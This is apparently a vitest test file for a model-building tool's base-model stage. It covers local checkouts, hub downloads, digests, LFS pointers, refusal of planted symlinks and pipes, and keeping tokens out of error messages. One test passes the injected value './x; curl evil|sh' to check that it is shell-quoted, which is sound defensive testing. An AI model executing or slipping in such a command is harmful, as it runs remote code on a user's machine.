import { execFileSync } from 'node:child_process'
import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import { describe, expect, it, vi } from 'vitest'
import { UserError } from '../../../src/errors.ts'
import type { ModelDirectory } from '../../../src/model/types.ts'
import { askHub, baseUnder, configDirectory, resolveBase, tryBase } from '../../../src/stages/base.ts'
import type { StageContext } from '../../../src/stages/types.ts'
import { commit, fakeHub } from '../../fakeHub.ts'
import { temporary } from '../oci/fixtures.ts'

async function withBase(): Promise<{
  base: string
  outside: string
  context: StageContext
  resolve(): ReturnType<typeof resolveBase>
}> {
  const outside = join(await temporary(), 'credentials.json')
  await writeFile(outside, '{"token": "of the runner"}')
  const root = await temporary()
  const base = join(root, 'base')
  await mkdir(base)
  await writeFile(join(base, 'config.json'), '{}')
  const given = { spec: { base: './base' }, specFile: 'model.yml', bounds: { directory: root, root } }
  const context = given as unknown as StageContext
  return { base, outside, context, resolve: () => resolveBase(context) }
}

describe('a base model of the checkout', () => {
  it('is a directory of files', async () => {
    const { base, resolve } = await withBase()
    expect((await resolve()).directory).toBe(base)
  })

  it('that is not there comes by a command that fetches it there, wherever that is typed and whatever its name is', async () => {
    const commandFor = async (base: string, from: string): Promise<string> => {
      const { context } = await withBase()
      const here = join(context.bounds.directory, from)
      await mkdir(here, { recursive: true })
      const before = process.cwd()
      process.chdir(here)
      try {
        const given = { ...context, spec: { base, task: 'text-classification' }, memo: new Map() }
        const error = await resolveBase(given as unknown as StageContext).catch((thrown: unknown) => thrown)
        const [, told = ''] = /--local-dir (.*)`, or name/.exec(String(error)) ?? []
        return told.replace(context.bounds.directory, '/root')
      } finally {
        process.chdir(before)
      }
    }
    expect(await commandFor('./lost', '.')).toBe('./lost')
    expect(await commandFor('./models/lost', 'models')).toBe('./lost')
    expect(await commandFor('./..lost', '.')).toBe('./..lost')
    expect(await commandFor('./lost', 'models/x')).toBe('/root/lost')
    expect(await commandFor("./it's my base", '.')).toBe("'./it'\\''s my base'")
    expect(await commandFor('./x; curl evil|sh', 'models')).toBe("'/root/x; curl evil|sh'")
  })

  it('has the same digest with and without what `hf download` notes of its download', async () => {
    const { base, resolve } = await withBase()
    const { digest } = await resolve()
    await mkdir(join(base, '.cache/huggingface/download'), { recursive: true })
    await writeFile(join(base, '.cache/huggingface/download/config.json.metadata'), '1763740800.1')
    const again = {
      spec: { base: './base' },
      specFile: 'model.yml',
      bounds: { directory: dirname(base), root: dirname(base) },
    }
    expect((await resolveBase(again as unknown as StageContext)).digest).toBe(digest)
    await writeFile(join(base, '.cache/weights'), 'more')
    expect((await resolveBase({ ...again } as unknown as StageContext)).digest).not.toBe(digest)
  })

  it('is told how to be fetched as files where it is a snapshot of links in the cache of the hub', async () => {
    const { base, resolve } = await withBase()
    await rm(join(base, 'config.json'))
    await symlink('../../blobs/abc', join(base, 'config.json'))
    await expect(resolve()).rejects.toThrow(/snapshot in the cache of the hub.*hf download ID/)
  })

  it('is told how to be fetched where the checkout left pointers of Git LFS in place of the weights', async () => {
    const { base, resolve } = await withBase()
    const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 90868376\n`
    await writeFile(join(base, 'model.safetensors'), pointer)
    await expect(resolve()).rejects.toThrow(/model\.safetensors is a pointer of Git LFS.*git lfs pull.*lfs: true/)
    // What `git lfs pull` does.
    await writeFile(join(base, 'model.safetensors'), Buffer.alloc(2048))
    await resolve()
  })

  it.each([
    ['a link to a file of the runner', (path: string, outside: string) => symlink(outside, path)],
    ['a link to a directory of the runner', (path: string) => symlink('/etc', path)],
    ['a link to a device', (path: string) => symlink('/dev/zero', path)],
    ['a pipe', async (path: string) => void execFileSync('mkfifo', [path])],
  ])('is refused where it holds %s, before a job gets it', async (_, plant) => {
    for (const name of ['tokenizer.json', 'config.json']) {
      const { base, outside, resolve } = await withBase()
      await rm(join(base, name), { force: true })
      await plant(join(base, name), outside)
      await expect(resolve()).rejects.toThrow(UserError)
    }
  })
})

describe('what is known of a base before any job', () => {
  const looked = async (config: string) => {
    const { base, context } = await withBase()
    await writeFile(join(base, 'config.json'), config)
    return tryBase({ ...context, spec: { ...context.spec, task: 'text-classification', engine: {} } } as StageContext)
  }

  it.each([
    [
      'more than any has',
      `{${' '.repeat(2 << 20)}}`,
      /^model\.yml: base: \.\/base\/config\.json cannot be read \(.+\): save the model again/,
    ],
    ['no JSON', '{', /config\.json is no JSON object/],
    ['a list', '[]', /config\.json is no JSON object: save the model again/],
    ['an object', '{}', /\.\/base has no \*\.safetensors: save its weights with safe_serialization=True/],
  ])('a config.json of %s, without weights, is refused with what to save again', async (_, config, message) => {
    await expect(looked(config)).rejects.toThrow(message)
  })

  it('an adapter is put on no other base than its own', async () => {
    const { context, resolve } = await withBase()
    const { digest, directory } = await resolve()
    const on = (base: string) =>
      baseUnder(context, { manifest: { format: 'adapter', base } } as unknown as ModelDirectory)
    await expect(on(`sha256:${'0'.repeat(64)}`)).rejects.toThrow(
      /\.\/base has the digest sha256:\w+, and the adapter was trained on sha256:0+: name that base, or fine-tune again/,
    )
    expect(await on(digest)).toEqual({ base: { directory } })
  })
})

describe('a base model of the hub', () => {
  async function hosted(
    environment: Record<string, string>,
    given: { directory?: string; cache?: string; told?: { push(line: string): void }; signal?: AbortSignal } = {},
  ) {
    return resolveBase(await contextOf(environment, given))
  }

  async function contextOf(
    environment: Record<string, string>,
    given: { directory?: string; cache?: string; told?: { push(line: string): void }; signal?: AbortSignal } = {},
  ): Promise<StageContext> {
    const directory = given.directory ?? (await temporary())
    const cache = given.cache ?? (await temporary())
    const context = {
      spec: { base: 'acme/tiny@v1/fixed' },
      specFile: 'model.yml',
      environment,
      place: { cache },
      platform: { log: { info: (line: string) => given.told?.push(line) }, secret: () => undefined },
      signal: given.signal ?? new AbortController().signal,
      bounds: { directory, root: directory },
    }
    return context as unknown as StageContext
  }

  it('is known by its config.json before any of its weights is fetched', async () => {
    const config = '{"hidden_size": 4096}'
    const hub = await fakeHub({
      files: { 'config.json': config, 'model.safetensors': Buffer.alloc(1_500_000) },
      refs: ['v1/fixed'],
    })
    const told: string[] = []
    const cache = await temporary()
    const of = async (environment: Record<string, string>): Promise<StageContext> => ({
      ...(await contextOf(environment, { cache, told })),
      spec: { base: `acme/tiny@${commit}` } as StageContext['spec'],
    })
    const directory = await configDirectory(await of({ HF_ENDPOINT: hub.address }))
    expect(await readFile(join(directory, 'config.json'), 'utf8')).toBe(config)
    expect(told).toEqual([])
    // Once all of it is here, that is asked.
    const fetched = await resolveBase(await of({ HF_ENDPOINT: hub.address }))
    expect(await configDirectory(await of(noHub))).toBe(fetched.directory)
  })

  it('of a hub that does not answer is told as whoever fetches it is', async () => {
    await expect(configDirectory(await contextOf(noHub))).rejects.toThrow(/could not be fetched from the hub/)
  })

  /** A port of nobody: whoever asks the hub is told at once. */
  const noHub = { HF_ENDPOINT: 'http://127.0.0.1:9' }

  it('is taken from MODEL_ACTIONS_BASES where it is there, and nothing is fetched', async () => {
    const bases = await temporary()
    const kept = join(bases, 'acme/tiny@v1/fixed')
    await mkdir(kept, { recursive: true })
    await writeFile(join(kept, 'config.json'), '{}')
    expect((await hosted({ ...noHub, MODEL_ACTIONS_BASES: bases })).directory).toBe(kept)
  })

  it('is on the disk once, comes with no word on stdout, and is not fetched again', async () => {
    const weights = { bytes: Buffer.alloc(100_000, 'w'), lfs: true }
    const files = { 'config.json': '{}', 'tokenizer.json': '{}', 'model.safetensors': weights }
    const others = { 'pytorch_model.bin': weights, 'onnx/model.onnx': weights }
    const hub = await fakeHub({ files: { ...files, ...others }, refs: ['v1/fixed'] })
    const [directory, cache] = [await temporary(), await temporary()]
    const written = vi.spyOn(process.stdout, 'write')
    const consoles = (['log', 'info', 'debug'] as const).map((name) => vi.spyOn(console, name))
    const fetched = () => hosted({ HF_ENDPOINT: hub.address }, { directory, cache })
    const both = await Promise.all([fetched(), fetched()])
    expect(both[0]).toEqual(both[1])
    expect(await fetched()).toEqual(both[0])
    for (const spied of [written, ...consoles]) expect(spied).not.toHaveBeenCalled()
    vi.restoreAllMocks()
    const lie = await readdir(cache, { recursive: true, withFileTypes: true })
    const names = lie.filter((entry) => !entry.isDirectory()).map(({ name }) => name)
    expect(names.toSorted()).toEqual(Object.keys(files).toSorted())
    const contents = hub.asked.filter(({ from }) => from === 'storage')
    expect(contents.length).toBe(1)
  })

  it('says how much is fetched', async () => {
    const hub = await fakeHub({
      files: { 'config.json': '{}', 'model.safetensors': Buffer.alloc(1_500_000) },
      refs: ['v1/fixed'],
    })
    const told: string[] = []
    await hosted({ HF_ENDPOINT: `${hub.address}/` }, { told })
    expect(told).toEqual(['Fetching acme/tiny at v1/fixed: 2 files, 1.5 MB'])
  })

  it('says for how long it is asked for again where the hub is away in the middle of it', async () => {
    const hub = await fakeHub({
      files: { 'config.json': '{}', 'model.safetensors': 'w' },
      refs: ['v1/fixed'],
      instead: ({ path }, response) => path.endsWith('/config.json') && response.writeHead(503).end() !== undefined,
    })
    const ended = new AbortController()
    const lines: string[] = []
    const push = (line: string): void => {
      lines.push(line)
      if (lines.length === 2) ended.abort(new Error('somebody ended it'))
    }
    const fetched = hosted({ HF_ENDPOINT: hub.address }, { told: { push }, signal: ended.signal })
    await expect(fetched).rejects.toThrow('somebody ended it')
    expect(lines[1]).toBe(
      `No more of config.json arrives (${hub.address} answers with status 503): it is asked for again for up to 5 minutes, and what arrived is kept`,
    )
  })

  it('that is nowhere names the directory that would be looked into', async () => {
    const nowhere = hosted({ ...noHub, MODEL_ACTIONS_BASES: await temporary() })
    await expect(nowhere).rejects.toThrow(/could not be fetched.*MODEL_ACTIONS_BASES names, as acme\/tiny@v1\/fixed/)
  })

  it('is refused from MODEL_ACTIONS_BASES as from a checkout where it is links into the cache of the hub', async () => {
    const bases = await temporary()
    const kept = join(bases, 'acme/tiny@v1/fixed')
    await mkdir(kept, { recursive: true })
    await symlink('../../blobs/abc', join(kept, 'config.json'))
    await expect(hosted({ ...noHub, MODEL_ACTIONS_BASES: bases })).rejects.toThrow(/snapshot in the cache of the hub/)
  })

  it('is told where it cannot be read in MODEL_ACTIONS_BASES, and taken from there once it can', async () => {
    const bases = await temporary()
    await writeFile(join(bases, 'acme'), 'a file')
    const from = () => hosted({ ...noHub, MODEL_ACTIONS_BASES: bases })
    await expect(from()).rejects.toThrow(
      /MODEL_ACTIONS_BASES: .*fixed cannot be read \(ENOTDIR\): let this user read it, or take it away/,
    )
    await rm(join(bases, 'acme'))
    const kept = join(bases, 'acme/tiny@v1/fixed')
    await mkdir(kept, { recursive: true })
    await writeFile(join(kept, 'config.json'), '{}')
    expect((await from()).directory).toBe(kept)
  })

  it('that the hub does not have is told before anything runs', async () => {
    const hub = createServer((_, response) => response.writeHead(404).end())
    await new Promise<void>((resolve) => hub.listen(0, '127.0.0.1', resolve))
    const { port } = hub.address() as AddressInfo
    const context = {
      spec: { base: 'acme/tiny@v1' },
      specFile: 'model.yml',
      environment: { HF_ENDPOINT: `http://127.0.0.1:${port}` },
      place: { cache: await temporary() },
      signal: new AbortController().signal,
    }
    await expect(askHub(context as unknown as StageContext)).rejects.toThrow(
      /^model\.yml: base: http:\/\/127\.0\.0\.1:\d+ has no acme\/tiny@v1 with a config\.json: check id and revision/,
    )
    await new Promise((resolve) => hub.close(resolve))
  })

  it.each([
    ['https://me:hf_secret@hub.acme.example/hf', /write https:\/\/hub\.acme\.example\/hf, and set HF_TOKEN/],
    ['me:hf_secret@hub.acme.example', /HF_ENDPOINT is no address of a hub: write it as https:\/\/HOST/],
    ['hub.acme.example', /HF_ENDPOINT is no address of a hub/],
  ])('is asked of no hub at %s, and no message has the password', async (endpoint, message) => {
    const context = {
      spec: { base: 'acme/tiny@v1' },
      specFile: 'model.yml',
      environment: { HF_ENDPOINT: endpoint },
      place: { cache: await temporary() },
      signal: new AbortController().signal,
    }
    const asks = [() => askHub(context as unknown as StageContext), () => hosted({ HF_ENDPOINT: endpoint })]
    for (const ask of asks) {
      await expect(ask()).rejects.toThrow(message)
      await expect(ask()).rejects.not.toThrow('hf_secret')
    }
  })

  it('takes no relative MODEL_ACTIONS_BASES', async () => {
    await expect(hosted({ ...noHub, MODEL_ACTIONS_BASES: 'bases' })).rejects.toThrow(/no absolute path/)
  })
})
